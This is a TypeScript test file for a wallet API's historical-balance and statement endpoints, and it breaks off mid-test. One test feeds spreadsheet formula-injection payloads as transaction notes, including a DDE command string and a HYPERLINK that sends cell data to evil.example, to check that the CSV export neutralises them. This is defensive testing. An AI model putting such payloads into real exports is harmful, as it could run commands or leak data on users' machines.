// Balances at a point in time (GET /user-wallet-balance?at=) and statements (GET /statements), in
// JSON and CSV (docs/api.md#get-statements-beyond-the-plugin,
// docs/ledger.md#balances-at-a-point-in-time).
import { env } from "cloudflare:workers";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { createDb } from "../src/db/client";
import { readStatement, type StatementRow, statementChunks } from "../src/db/statements";
import { numberCell, textCell } from "../src/wallet/statement-csv";
import { countingD1 } from "./d1-counter";
import {
  appAt,
  appendHistory,
  appendTurnover,
  call,
  importedEntry,
  type Json,
  makeAccount,
  makeKey,
  makeUser,
  makeWallet,
  storingMore,
  type TestUser,
  unique,
} from "./helpers";

const T0 = Date.UTC(2026, 10, 2, 9, 0, 0); // 2026-11-02T09:00:00Z
const MIN = 60_000;
const DAY = 24 * 60 * MIN;
const iso = (ms: number) => new Date(ms).toISOString();

/** A credit or debit written with the service's clock at `atMs`. */
async function move(
  admin: TestUser,
  kind: "credits" | "debits",
  body: Json,
  atMs: number,
): Promise<number> {
  const res = await call("POST", `/${kind}`, {
    auth: admin.bearer,
    body: { request_id: unique("r"), ...body },
    app: appAt(atMs),
  });
  expect(res.status, res.text).toBe(200);
  return res.body.data.transaction_id;
}

const balanceAt = (auth: TestUser, query: Record<string, string | number>, nowMs = T0 + 60 * MIN) =>
  call("GET", "/user-wallet-balance", { auth: auth.bearer, query, app: appAt(nowMs) });

const statement = (auth: string, query: Record<string, string | number>, nowMs = T0 + 60 * MIN) =>
  call("GET", "/statements", { auth, query, app: appAt(nowMs) });

/** An administrator, a subscriber and a wallet, with 100 in at T0, 40 out at T0+10m, 25 in at T0+20m. */
async function history() {
  const account = await makeAccount();
  const { admin, user, wallet } = account;
  const ids = [
    await move(admin, "credits", { user_id: user.id, wallet_id: wallet, amount: "100" }, T0),
    await move(
      admin,
      "debits",
      { user_id: user.id, wallet_id: wallet, amount: "40" },
      T0 + 10 * MIN,
    ),
    await move(
      admin,
      "credits",
      { user_id: user.id, wallet_id: wallet, amount: "25.50" },
      T0 + 20 * MIN,
    ),
  ];
  return { ...account, ids };
}

describe("GET /user-wallet-balance with at", () => {
  it("answers the balance as of each instant, in the same shape as today's balance", async () => {
    const { admin, user, wallet } = await history();
    const at = async (ms: number) => {
      const res = await balanceAt(admin, { user_id: user.id, wallet_id: wallet, at: iso(ms) });
      expect(res.status, res.text).toBe(200);
      expect(res.body).toStrictEqual({
        status_code: 200,
        status: true,
        message: "Wallet Balance retrieved",
        data: { [wallet]: expect.any(Number) },
      });
      return res.body.data[wallet];
    };
    expect(await at(T0 - 1000)).toBe(0);
    // Years 0001-0099 are ISO 8601 too (JavaScript's Date.UTC reads them as 19xx): before it all.
    for (const early of ["0001-01-01", "0099-12-31T23:59:59Z", "1969-12-31"]) {
      const res = await balanceAt(admin, { user_id: user.id, wallet_id: wallet, at: early });
      expect([res.status, res.body.data], early).toStrictEqual([200, { [wallet]: 0 }]);
    }
    expect(await at(T0)).toBe(100);
    expect(await at(T0 + 10 * MIN - 1000)).toBe(100);
    expect(await at(T0 + 10 * MIN)).toBe(60);
    expect(await at(T0 + 30 * MIN)).toBe(85.5);
  });

  it("adds formatted strings with formatted=yes and answers 0 for a wallet never used", async () => {
    const { admin, user, wallet } = await history();
    const other = (await makeAccount()).wallet;
    const res = await balanceAt(admin, {
      user_id: user.id,
      wallet_id: `${wallet},${other}`,
      at: iso(T0 + 15 * MIN),
      formatted: "yes",
    });
    expect(res.body.data).toStrictEqual({
      [wallet]: 60,
      [other]: 0,
      formatted: { [wallet]: "₦60.00", [other]: "₦0.00" },
    });
  });

  it("lets a subscriber read its own past balance and refuses another's with 403", async () => {
    const { user, wallet } = await history();
    const own = await balanceAt(user, { wallet_id: wallet, at: iso(T0) });
    expect(own.body.data).toEqual({ [wallet]: 100 });
    const stranger = await makeUser();
    const res = await balanceAt(stranger, { user_id: user.id, wallet_id: wallet, at: iso(T0) });
    expect(res.status).toBe(403);
  });

  it("answers an at that is no ISO 8601 instant with 400 invalid input naming at", async () => {
    const { admin, user, wallet } = await history();
    for (const bad of ["yesterday", "2026-02-31", "2026-11-02T25:00:00Z", ""]) {
      const res = await balanceAt(admin, { user_id: user.id, wallet_id: wallet, at: bad });
      expect(res.status, bad).toBe(400);
      expect(res.body).toStrictEqual({
        status_code: 400,
        status: false,
        message: "invalid input",
        error: { at: "at requires an ISO 8601 date" },
      });
    }
  });

  it("answers an at in the future with 400: no balance can be said for it yet", async () => {
    const { admin, user, wallet } = await history();
    const res = await balanceAt(
      admin,
      { user_id: user.id, wallet_id: wallet, at: iso(T0 + 61 * MIN) },
      T0 + 60 * MIN,
    );
    expect(res.status).toBe(400);
    expect(res.body.error).toStrictEqual({ at: "at must not be in the future" });
    // Nor the second that is running: entries may still be dated in it. The one before is over.
    const now = T0 + 60 * MIN + 500;
    for (const at of [now, now + 499, now - 500]) {
      const running = await balanceAt(
        admin,
        { user_id: user.id, wallet_id: wallet, at: iso(at) },
        now,
      );
      expect(running.status, iso(at)).toBe(400);
    }
    const over = await balanceAt(
      admin,
      { user_id: user.id, wallet_id: wallet, at: iso(now - 501) },
      now,
    );
    expect(over.status).toBe(200);
  });

  it("answers an unknown wallet with 400 and an unknown user with 404, as without at", async () => {
    const { admin, user, wallet } = await history();
    const noWallet = await balanceAt(admin, {
      user_id: user.id,
      wallet_id: "nosuchw",
      at: iso(T0),
    });
    expect(noWallet.body.error).toStrictEqual({ wallet_id: "wallet_id not found: nosuchw" });
    const noUser = await balanceAt(admin, {
      user_id: 2_000_000_000,
      wallet_id: wallet,
      at: iso(T0),
    });
    expect(noUser.status).toBe(404);
  });

  it("reads one index row per wallet, however long the history", async () => {
    const { admin, user, wallet } = await history();
    const counter = countingD1();
    const read = () =>
      counter.measure(() =>
        call("GET", "/user-wallet-balance", {
          auth: admin.bearer,
          query: { user_id: user.id, wallet_id: wallet, at: iso(T0 + 15 * MIN) },
          app: appAt(T0 + 60 * MIN),
          d1: counter.db,
        }),
      );
    await read();
    const short = await read();
    await appendHistory(user.id, wallet, 2000);
    const long = await read();
    expect(long.value.body.data[wallet]).toBe(60);
    expect(long.cost.rowsRead).toBe(short.cost.rowsRead);
  });

  it("never answers a balance the chain did not hold when an entry is dated before the one it follows", async () => {
    // The debit is written after the credit but stamped a minute earlier (a clock behind, or an
    // imported post): it counts from when it joined the chain, so no instant shows -40.
    const { admin, user, wallet } = await makeAccount();
    await move(admin, "credits", { user_id: user.id, wallet_id: wallet, amount: "100" }, T0);
    await move(admin, "debits", { user_id: user.id, wallet_id: wallet, amount: "40" }, T0 - MIN);
    const at = async (ms: number) =>
      (await balanceAt(admin, { user_id: user.id, wallet_id: wallet, at: iso(ms) })).body.data[
        wallet
      ];
    expect(await at(T0 - MIN)).toBe(0);
    expect(await at(T0 - 1000)).toBe(0);
    expect(await at(T0)).toBe(60);
  });
});

describe("GET /statements", () => {
  it("writes totals past 2^53 units exactly in formatted and the CSV headers (the JSON number is the nearest)", async () => {
    const { admin, user } = await makeAccount();
    const wallet = await makeWallet(admin, { decimals: 0, symbol: "¥" });
    const max = "999999999999999";
    for (let i = 0; i < 10; i++) {
      await move(admin, "credits", { user_id: user.id, wallet_id: wallet, amount: max }, T0 + i);
      await move(admin, "debits", { user_id: user.id, wallet_id: wallet, amount: max }, T0 + i);
    }
    await move(admin, "credits", { user_id: user.id, wallet_id: wallet, amount: "1" }, T0 + MIN);
    const query = { user_id: user.id, wallet_id: wallet };
    const res = await statement(admin.bearer, query);
    expect(res.status, res.text).toBe(200);
    expect(res.body.data.formatted).toEqual({
      opening_balance: "¥0",
      closing_balance: "¥1",
      total_in: "¥9,999,999,999,999,991",
      total_out: "¥9,999,999,999,999,990",
    });
    const csv = await statement(admin.bearer, { ...query, format: "CSV" });
    expect(csv.headers.get("x-statement-total-in")).toBe("9999999999999991");
    expect(csv.headers.get("x-statement-total-out")).toBe("9999999999999990");
  });

  it("adds up a turnover past 2^63 units, where SQLite's sum() of integers overflows", async () => {
    const { admin, user } = await makeAccount();
    const wallet = await makeWallet(admin, { decimals: 0, symbol: "¥" });
    // 9,224 × 999,999,999,999,999 = 9,223,999,999,999,990,776 > 2^63 − 1 = 9,223,372,036,854,775,807
    await appendTurnover(user.id, wallet, 9_224, Math.floor(T0 / 1000));
    const total = "9223999999999990776";
    const query = { user_id: user.id, wallet_id: wallet, per_page: 1 };
    const res = await statement(admin.bearer, query);
    expect(res.status, res.text).toBe(200);
    expect(res.headers.get("x-wp-total")).toBe("18448");
    expect(res.body.data.formatted.total_in).toBe(`¥${BigInt(total).toLocaleString("en-US")}`);
    expect(res.body.data.formatted.total_out).toBe(res.body.data.formatted.total_in);
    const csv = await statement(admin.bearer, { ...query, format: "csv" });
    expect(csv.status).toBe(200);
    expect(csv.headers.get("x-statement-total-in")).toBe(total);
    expect(csv.headers.get("x-statement-total-out")).toBe(total);
  });

  it("answers opening and closing balances, totals, count and the entries between, as /transactions records", async () => {
    const { admin, user, wallet, ids } = await history();
    const res = await statement(admin.bearer, {
      user_id: user.id,
      wallet_id: wallet,
      from: iso(T0 + 5 * MIN),
      to: iso(T0 + 20 * MIN),
    });
    expect(res.status, res.text).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/json; charset=UTF-8");
    expect(res.headers.get("x-wp-total")).toBe("2");
    const { entries, ...figures } = res.body.data;
    expect(res.body.message).toBe("Statement retrieved");
    expect(figures).toStrictEqual({
      user_id: user.id,
      wallet_id: wallet,
      from: "2026-11-02T09:05:00Z",
      to: "2026-11-02T09:20:00Z",
      opening_balance: 100,
      closing_balance: 85.5,
      total_in: 25.5,
      total_out: 40,
      count: 2,
      formatted: {
        opening_balance: "₦100.00",
        closing_balance: "₦85.50",
        total_in: "₦25.50",
        total_out: "₦40.00",
      },
    });
    const listed = await call("GET", "/transactions", {
      auth: admin.bearer,
      query: { user_id: user.id, security_code: 1, order: "asc" },
    });
    expect(entries).toStrictEqual(listed.body.data.filter((r: Json) => r.ID !== ids[0]));
  });

  it("covers the whole history without from and to, and clamps a to in the future to the last second that is over", async () => {
    const { admin, user, wallet } = await history();
    const now = T0 + 30 * MIN;
    const res = await statement(
      admin.bearer,
      { user_id: user.id, wallet_id: wallet, to: iso(now + 24 * 60 * MIN) },
      now,
    );
    // The current second may still get entries, as a balance's `at` knows: it is not yet stated.
    expect(res.body.data).toMatchObject({
      from: "1970-01-01T00:00:00Z",
      to: "2026-11-02T09:29:59Z",
      opening_balance: 0,
      closing_balance: 85.5,
      count: 3,
    });
    // A from in the years 0001-0099 is that year, not 19xx.
    const early = await statement(
      admin.bearer,
      { user_id: user.id, wallet_id: wallet, from: "0050-06-15T00:00:00Z", to: iso(now) },
      now,
    );
    expect(early.body.data).toMatchObject({ from: "0050-06-15T00:00:00Z", count: 3 });
    // Before the year 0 in UTC, in ISO 8601's expanded form, seconds and all.
    const bc = await statement(
      admin.bearer,
      { user_id: user.id, wallet_id: wallet, from: "0000-01-01T00:00:00+14:00", to: iso(now) },
      now,
    );
    expect(bc.body.data).toMatchObject({ from: "-000001-12-31T10:00:00Z", count: 3 });
    // What an answer writes reads back; a year without its six digits, or -0, does not.
    const again = await statement(
      admin.bearer,
      { user_id: user.id, wallet_id: wallet, from: "-000001-12-31T10:00:00Z", to: iso(now) },
      now,
    );
    expect(again.body.data).toMatchObject({ from: "-000001-12-31T10:00:00Z", count: 3 });
    for (const from of ["-0001-12-31", "-000000-01-01", "+02026-01-01", "-000001-02-30"]) {
      const refused = await statement(
        admin.bearer,
        { user_id: user.id, wallet_id: wallet, from, to: iso(now) },
        now,
      );
      expect([refused.status, refused.body.error], from).toEqual([
        400,
        { from: "from requires an ISO 8601 date" },
      ]);
    }
  });

  it("answers a from in the current second with an empty range, not a refusal", async () => {
    const { admin, user, wallet } = await history();
    const now = T0 + 50 * MIN + 400;
    const res = await statement(
      admin.bearer,
      { user_id: user.id, wallet_id: wallet, from: iso(T0 + 50 * MIN) },
      now,
    );
    expect(res.status, res.text).toBe(200);
    expect(res.body.data).toMatchObject({
      from: "2026-11-02T09:50:00Z",
      to: "2026-11-02T09:49:59Z",
      count: 0,
      opening_balance: 85.5,
      closing_balance: 85.5,
    });
  });

  it("states a closing balance that an entry written later in the same second cannot change", async () => {
    const { admin, user, wallet } = await history();
    const now = T0 + 40 * MIN + 300;
    const query = { user_id: user.id, wallet_id: wallet, from: iso(T0) };
    const first = await statement(admin.bearer, query, now);
    expect(first.body.data).toMatchObject({ to: "2026-11-02T09:39:59Z", closing_balance: 85.5 });
    const body = { user_id: user.id, wallet_id: wallet, amount: "10" };
    await move(admin, "credits", body, now + 400);
    const again = await statement(admin.bearer, { ...query, to: first.body.data.to }, now + 2000);
    expect(again.body.data).toMatchObject({ closing_balance: 85.5, count: first.body.data.count });
  });

  it("holds an entry dated in a bound's own second only when that second starts inside the range", async () => {
    const { admin, user, wallet } = await history();
    // The debit of 40 is dated 09:10:00; entries are dated in whole seconds.
    const at = (from: number, to: number) =>
      statement(admin.bearer, {
        user_id: user.id,
        wallet_id: wallet,
        from: iso(from),
        to: iso(to),
      });
    const debit = T0 + 10 * MIN;
    expect((await at(debit, debit)).body.data).toMatchObject({ count: 1, total_out: 40 });
    expect((await at(debit + 500, debit + 900)).body.data).toMatchObject({
      from: "2026-11-02T09:10:01Z",
      to: "2026-11-02T09:10:00Z",
      opening_balance: 60,
      closing_balance: 60,
      count: 0,
    });
    expect((await at(debit - 500, debit + 500)).body.data).toMatchObject({ count: 1 });
    expect((await at(debit + 500, debit + 5 * MIN)).body.data).toMatchObject({
      opening_balance: 60,
      count: 0,
    });
    // An instant past the millisecond is after its second's start: 09:10:00.0001 leaves out the
    // debit dated 09:10:00, and a to of 09:10:00.9999 still ends in that second.
    const past = await statement(admin.bearer, {
      user_id: user.id,
      wallet_id: wallet,
      from: "2026-11-02T09:10:00.0001Z",
      to: "2026-11-02T09:10:00.9999Z",
    });
    expect(past.body.data).toMatchObject({
      from: "2026-11-02T09:10:01Z",
      to: "2026-11-02T09:10:00Z",
      opening_balance: 60,
      closing_balance: 60,
      count: 0,
    });
    const nano = await statement(admin.bearer, {
      user_id: user.id,
      wallet_id: wallet,
      from: "2026-11-02T09:10:00.000000001Z",
      to: "2026-11-02T09:20:00Z",
    });
    expect(nano.body.data).toMatchObject({ opening_balance: 60, total_out: 0, count: 1 });
    const zeros = await statement(admin.bearer, {
      user_id: user.id,
      wallet_id: wallet,
      from: "2026-11-02T09:10:00.0000Z",
      to: "2026-11-02T09:10:00.0000Z",
    });
    expect(zeros.body.data).toMatchObject({ opening_balance: 100, total_out: 40, count: 1 });
    // Still refused when from is after to, within one second too.
    const inverted = await at(debit + 900, debit + 500);
    expect(inverted.body.error).toEqual({ from: "from must not be after to (nor in the future)" });
  });

  it("reads a date-only to as the whole of that day: from=D&to=D is day D's statement", async () => {
    const { admin, user, wallet } = await history();
    const ask = (query: Record<string, string>, nowMs?: number) =>
      statement(admin.bearer, { user_id: user.id, wallet_id: wallet, ...query }, nowMs);
    const day = await ask({ from: "2026-11-02", to: "2026-11-02" }, T0 + 2 * DAY);
    expect(day.body.data).toMatchObject({
      from: "2026-11-02T00:00:00Z",
      to: "2026-11-02T23:59:59Z",
      opening_balance: 0,
      closing_balance: 85.5,
      total_in: 125.5,
      total_out: 40,
      count: 3,
    });
    // The day before ends before any entry; a to with a time is that instant, as before.
    expect((await ask({ to: "2026-11-01" }, T0 + 2 * DAY)).body.data).toMatchObject({
      to: "2026-11-01T23:59:59Z",
      count: 0,
    });
    expect((await ask({ to: "2026-11-02T00:00:00Z" }, T0 + 2 * DAY)).body.data).toMatchObject({
      to: "2026-11-02T00:00:00Z",
      count: 0,
    });
    // ISO 8601's separator in lower case (as the pattern takes it) is a time too, not a whole day.
    expect((await ask({ to: "2026-11-02t00:00:00z" }, T0 + 2 * DAY)).body.data).toMatchObject({
      to: "2026-11-02T00:00:00Z",
      count: 0,
    });
    // Today's date is today so far: the last second that is over.
    expect((await ask({ from: "2026-11-02", to: "2026-11-02" })).body.data).toMatchObject({
      to: "2026-11-02T09:59:59Z",
      count: 3,
    });
  });

  it("refuses a range wholly in the future with 400: its to is clamped to now, before its from", async () => {
    const { admin, user, wallet } = await history();
    const now = T0 + 60 * MIN;
    const res = await statement(
      admin.bearer,
      { user_id: user.id, wallet_id: wallet, from: iso(now + DAY), to: iso(now + 2 * DAY) },
      now,
    );
    expect(res.status, res.text).toBe(400);
    expect(res.body.error).toEqual({ from: "from must not be after to (nor in the future)" });
  });

  it("pages its entries like /transactions, its totals covering the whole range", async () => {
    const { admin, user, wallet, ids } = await history();
    const secondPage = (paging: Record<string, number>) =>
      statement(admin.bearer, { user_id: user.id, wallet_id: wallet, per_page: 2, ...paging });
    const res = await secondPage({ page: 2 });
    expect(res.body.data.entries.map((e: Json) => e.ID)).toEqual([ids[2]]);
    expect(res.body.data.count).toBe(3);
    expect(res.headers.get("x-wp-totalpages")).toBe("2");
    expect(res.headers.get("link")).toContain('rel="prev"');
    // The plugin's `pageno` names the page too, as on /transactions (`page` wins when both are sent).
    const byPageno = await secondPage({ pageno: 2 });
    expect(byPageno.body.data.entries.map((e: Json) => e.ID)).toEqual([ids[2]]);
  });

  it("pins the answered `to` in its page links when `to` was omitted, later, or spelled otherwise", async () => {
    const { admin, user, wallet } = await history();
    const answered = "2026-11-02T09:59:59Z"; // the last second over at T0 + 60 min
    const links = async (query: Record<string, string | number>, to = answered) => {
      const res = await statement(admin.bearer, { user_id: user.id, wallet_id: wallet, ...query });
      expect(res.status, res.text).toBe(200);
      expect(res.body.data.to).toBe(to);
      return [...(res.headers.get("link") ?? "").matchAll(/<([^>]+)>/g)].map(
        (m) => new URL(m[1]!).searchParams,
      );
    };
    // Read a minute later, a link that kept the request's `to` (or none) would sum another range.
    for (const to of [undefined, "2026-12-31", iso(T0 + 61 * MIN)]) {
      const [next] = await links({ per_page: 1, ...(to === undefined ? {} : { to }) });
      expect(next!.getAll("to")).toEqual([answered]);
    }
    // PHP reads ` to` as `to`, the last counting: the link keeps no other spelling.
    const [next] = await links({ per_page: 1, to: "2026-12-31", " to": "2026-12-30" });
    expect([...next!.keys()].filter((k) => k.trim() === "to")).toEqual(["to"]);
    // A `to` already over stays as the client wrote it.
    const past = iso(T0 + 30 * MIN);
    const [kept] = await links({ per_page: 1, to: past }, "2026-11-02T09:30:00Z");
    expect(kept!.get("to")).toBe(past);
  });

  it("lets a subscriber omit user_id (its own) and refuses another user's statement with 403", async () => {
    const { user, wallet } = await history();
    const own = await statement(user.bearer, { wallet_id: wallet });
    expect(own.body.data.count).toBe(3);
    const key = await makeKey(user, "read");
    const byKey = await statement(key.header, { wallet_id: wallet, format: "csv" });
    expect(byKey.status).toBe(200);
    const stranger = await makeUser();
    const refused = await statement(stranger.bearer, {
      user_id: user.id,
      wallet_id: wallet,
      format: "csv",
    });
    expect(refused.status).toBe(403);
    expect(refused.headers.get("content-type")).toBe("application/json; charset=UTF-8");
  });

  it.each([
    [{ wallet_id: "" }, { wallet_id: "Field Cannot be empty" }],
    [{ wallet_id: "nosuchwallet" }, { wallet_id: "wallet_id not found" }],
    [{ from: "last week" }, { from: "from requires an ISO 8601 date" }],
    [{ to: "2026-13-01" }, { to: "to requires an ISO 8601 date" }],
    [
      { from: iso(T0), to: iso(T0 - MIN) },
      { from: "from must not be after to (nor in the future)" },
    ],
    // Without `from` the statement starts at the epoch: a `to` before it is what is wrong.
    [{ to: "1969-12-31T23:59:59Z" }, { to: "to must not be before 1970-01-01T00:00:00Z" }],
    [{ format: "xlsx" }, { format: "format must be json or csv" }],
    [{ per_page: 101 }, { per_page: "per_page must be between 1 and 100" }],
  ])("answers %j with 400 invalid input naming the field", async (query, error) => {
    const { admin, user, wallet } = await history();
    const res = await statement(admin.bearer, { user_id: user.id, wallet_id: wallet, ...query });
    expect(res.status, res.text).toBe(400);
    expect(res.body).toStrictEqual({
      status_code: 400,
      status: false,
      message: "invalid input",
      error,
    });
  });

  it("asks an administrator for user_id, and answers an unknown user with 404", async () => {
    const { admin, wallet } = await history();
    const missing = await statement(admin.bearer, { wallet_id: wallet });
    expect(missing.body.error).toStrictEqual({ user_id: "Field Cannot be empty" });
    const unknown = await statement(admin.bearer, { user_id: 2_000_000_000, wallet_id: wallet });
    expect(unknown.status).toBe(404);
    expect(unknown.body.error).toStrictEqual(["Unable to reach 2000000000"]);
  });
});

/** Parses a CSV answer as a spreadsheet would read its cells (RFC 4180, CRLF). */
const csvRows = (text: string): string[][] => parse(text, { record_delimiter: "\r\n" });

describe("GET /statements format=csv", () => {
  it("streams RFC 4180 text/csv as an attachment, and parsed back it is the JSON statement", async () => {
    const { admin, user, wallet } = await history();
    const query = { user_id: user.id, wallet_id: wallet, from: iso(T0), to: iso(T0 + 30 * MIN) };
    const json = await statement(admin.bearer, query);
    const res = await statement(admin.bearer, { ...query, format: "CSV" });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe(
      `attachment; filename="statement-${user.id}-${wallet}-2026-11-02-to-2026-11-02.csv"`,
    );
    expect(res.text.endsWith("\r\n")).toBe(true);
    expect(res.text.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
    const [header, ...rows] = csvRows(res.text);
    expect(header).toEqual([
      "ID",
      "post_date",
      "post_date_gmt",
      "txn_type",
      "amount",
      "balance_after",
      "note",
    ]);
    const entries: Json[] = json.body.data.entries;
    expect(rows.map((r) => [Number(r[0]), r[1], r[2], r[3], r[6]])).toEqual(
      entries.map((e) => [e.ID, e.post_date, e.post_date_gmt, e.txn_type, e.note]),
    );
    // Amounts exact in the wallet's places; each balance continues the one before it.
    expect(rows.map((r) => r[4])).toEqual(["100.00", "40.00", "25.50"]);
    expect(rows.map((r) => r[5])).toEqual(["100.00", "60.00", "85.50"]);
    expect(res.headers.get("x-statement-opening-balance")).toBe("0.00");
    expect(res.headers.get("x-statement-closing-balance")).toBe("85.50");
    expect(res.headers.get("x-statement-total-in")).toBe("125.50");
    expect(res.headers.get("x-statement-total-out")).toBe("40.00");
  });

  it("quotes its first header cell, so Excel does not take a file starting ID for a SYLK file", async () => {
    const { admin, user, wallet } = await history();
    const res = await statement(admin.bearer, {
      user_id: user.id,
      wallet_id: wallet,
      format: "csv",
    });
    expect(res.status).toBe(200);
    expect(res.text.split("\r\n")[0]).toBe(
      '"ID",post_date,post_date_gmt,txn_type,amount,balance_after,note',
    );
    expect(csvRows(res.text)[0]![0]).toBe("ID");
  });

  it("writes dates in the site's time zone", async () => {
    const { admin, user, wallet } = await history();
    const res = await call("GET", "/statements", {
      auth: admin.bearer,
      query: { user_id: user.id, wallet_id: wallet, format: "csv" },
      app: appAt(T0 + 60 * MIN),
      vars: { SITE_TIMEZONE: "Africa/Lagos" },
    });
    const [, first] = csvRows(res.text);
    expect(first!.slice(1, 3)).toEqual(["2026-11-02 10:00:00", "2026-11-02 09:00:00"]);
  });

  it("names the file by the UTC dates the statement says, in any time zone", async () => {
    const { admin, user, wallet } = await history();
    const name = async (from: string, vars = {}, to?: string) => {
      const query = { user_id: user.id, wallet_id: wallet, from, format: "csv", ...(to && { to }) };
      const res = await call("GET", "/statements", {
        auth: admin.bearer,
        query,
        app: appAt(T0 + 60 * MIN),
        vars,
      });
      return res.headers.get("content-disposition");
    };
    const file = (from: string) =>
      `attachment; filename="statement-${user.id}-${wallet}-${from}-to-2026-11-02.csv"`;
    expect(await name("0000-01-01")).toBe(file("0000-01-01"));
    expect(await name("0000-01-01", { SITE_TIMEZONE: "-01:00" })).toBe(file("0000-01-01"));
    // A year outside 0000-9999 as the answer writes it (ISO 8601's expanded form), not as post_date.
    expect(await name("-000001-12-31T10:00:00Z")).toBe(file("-000001-12-31"));
    // A date-only `to` is its whole UTC day, which ends on the next day east of UTC.
    expect(await name("2026-11-02", { SITE_TIMEZONE: "Africa/Lagos" }, "2026-11-02")).toBe(
      file("2026-11-02"),
    );
  });

  it("neutralises notes a spreadsheet would run as formulas, keeping the text after a quote", async () => {
    const { admin, user, wallet } = await makeAccount();
    const notes = [
      '=HYPERLINK("http://x")',
      "+1+1",
      "-2+3",
      "@SUM(A1)",
      "\tx",
      "\rx",
      'a,"b"\r\nc',
      "-",
      "refund\n=cmd|' /C calc'!A0",
      "a\rb",
      "refund;=1+2",
      'refund;=HYPERLINK("http://evil.example/"&A1,"click")',
    ];
    for (const [i, note] of notes.entries())
      await move(
        admin,
        "credits",
        { user_id: user.id, wallet_id: wallet, amount: 1, note },
        T0 + i * 1000,
      );
    const res = await statement(admin.bearer, {
      user_id: user.id,
      wallet_id: wallet,
      format: "csv",
    });
    const cells = csvRows(res.text)
      .slice(1)
      .map((r) => r[6]);
    expect(cells).toEqual([
      '\'=HYPERLINK("http://x")',
      "'+1+1",
      "'-2+3",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      'a,"b"\r\nc',
      "'-",
      "refund\n'=cmd|' /C calc'!A0",
      "a\rb",
      "refund;'=1+2",
      'refund;\'=HYPERLINK("http://evil.example/"&A1,"click")',
    ]);
    // Read as Excel reads a .csv where the list separator is `;` (de-DE, fr-FR, nl-NL): quotes that
    // do not open a cell are text, so `;` and line breaks inside them split cells and rows too.
    const semicolonCells = parse(res.text, {
      delimiter: ";",
      relax_quotes: true,
      relax_column_count: true,
    }) as string[][];
    expect(semicolonCells.flat().filter((cell) => /^[=+\-@\t\r\0]/.test(cell))).toEqual([]);
    // A lone LF or CR is quoted too: a reader that ends rows at either (Python's csv, spreadsheets)
    // must not start a row whose first cell is the rest of a note, unguarded.
    const unquoted = res.text.replaceAll(/"(?:[^"]|"")*"/g, "").replaceAll("\r\n", "");
    expect(unquoted).not.toMatch(/[\r\n]/);
  });

  it("writes a negative balance as a plain signed number, never neutralised", async () => {
    // Only an imported history may go below zero (docs/ledger.md): written here as the import does.
    const { admin, user, wallet } = await makeAccount();
    await importedEntry(user.id, wallet, "DEBIT", 1250, "12.50", 0, T0 / 1000);
    await move(admin, "credits", { user_id: user.id, wallet_id: wallet, amount: "2" }, T0 + MIN);
    const res = await statement(admin.bearer, {
      user_id: user.id,
      wallet_id: wallet,
      format: "csv",
    });
    const rows = csvRows(res.text).slice(1);
    expect(rows.map((r) => [r[3], r[4], r[5]])).toEqual([
      ["DEBIT", "12.50", "-12.50"],
      ["CREDIT", "2.00", "-10.50"],
    ]);
    const json = await statement(admin.bearer, { user_id: user.id, wallet_id: wallet });
    expect(json.body.data).toMatchObject({
      opening_balance: 0,
      closing_balance: -10.5,
      total_out: 12.5,
      formatted: { closing_balance: "₦-10.50" },
    });
  });

  it("writes the exact stored places of a wallet that stores more than it displays", async () => {
    const { admin, user } = await makeAccount();
    const wallet = await storingMore();
    await importedEntry(user.id, wallet, "CREDIT", 12345, "12.345", 0, T0 / 1000);
    await move(admin, "credits", { user_id: user.id, wallet_id: wallet, amount: "1500" }, T0 + MIN);
    const csv = await statement(admin.bearer, {
      user_id: user.id,
      wallet_id: wallet,
      format: "csv",
    });
    expect(
      csvRows(csv.text)
        .slice(1)
        .map((r) => [r[4], r[5]]),
    ).toEqual([
      ["12.345", "12.345"],
      ["1500.000", "1512.345"],
    ]);
    const json = await statement(admin.bearer, { user_id: user.id, wallet_id: wallet });
    expect(json.body.data).toMatchObject({
      closing_balance: 1512.345,
      total_in: 1512.345,
      formatted: { closing_balance: "₦1,512.35" },
    });
    const at = await balanceAt(admin, { user_id: user.id, wallet_id: wallet, at: iso(T0) });
    expect(at.body.data[wallet]).toBe(12.345);
  });

  it("rounds the totals of a wallet that stores more than it displays half up in formatted", async () => {
    const { admin, user } = await makeAccount();
    const wallet = await storingMore();
    await importedEntry(user.id, wallet, "CREDIT", 12345, "12.345", 0, T0 / 1000);
    await importedEntry(user.id, wallet, "DEBIT", 1005, "1.005", 12345, T0 / 1000 + 1);
    const json = await statement(admin.bearer, { user_id: user.id, wallet_id: wallet });
    expect(json.body.data).toMatchObject({
      total_in: 12.345,
      total_out: 1.005,
      formatted: { total_in: "₦12.35", total_out: "₦1.01" },
    });
  });

  it("streams a statement longer than one read whole, in order, its rows adding up to its totals", async () => {
    const { admin, user, wallet } = await makeAccount();
    await appendHistory(user.id, wallet, 1234);
    const res = await call("GET", "/statements", {
      auth: admin.bearer,
      query: { user_id: user.id, wallet_id: wallet, format: "csv" },
    });
    const rows = csvRows(res.text).slice(1);
    expect(rows).toHaveLength(1234);
    expect(rows.at(-1)![5]).toBe("12.34");
    expect(new Set(rows.map((r) => r[0])).size).toBe(1234);
    expect(res.headers.get("x-wp-total")).toBe("1234");
  });

  it("streams only the entries its head counted, not one written into the range while it streams", async () => {
    const { admin, user, wallet, ids } = await history();
    const db = createDb(env.DB);
    const range = {
      userId: user.id,
      walletId: wallet,
      fromS: T0 / 1000,
      toS: (T0 + 30 * MIN) / 1000,
    };
    const head = await readStatement(db, range, { offset: 0, limit: 1 });
    // A clock behind dates it inside the range; the chain places it after the last entry read.
    const body = { user_id: user.id, wallet_id: wallet, amount: "7" };
    await move(admin, "credits", body, T0 + 15 * MIN);
    const rows: StatementRow[] = [];
    for await (const chunk of statementChunks(db, range, head.rows, head.lastSeq, 1))
      rows.push(...chunk);
    expect(rows.map((r) => r.entry.id)).toEqual(ids);
    const sum = (type: string) =>
      rows
        .filter((r) => r.entry.txnType === type)
        .reduce((n, r) => n + BigInt(r.entry.amountMinor), 0n);
    expect([sum("CREDIT"), sum("DEBIT"), rows.length]).toEqual([
      head.inMinor,
      head.outMinor,
      head.count,
    ]);
  });
});

describe("GET /openapi.json", () => {
  it("describes GET /statements with its parameters and a text/csv answer, and at on the balance", async () => {
    const doc = (await call("GET", "/openapi.json")).body;
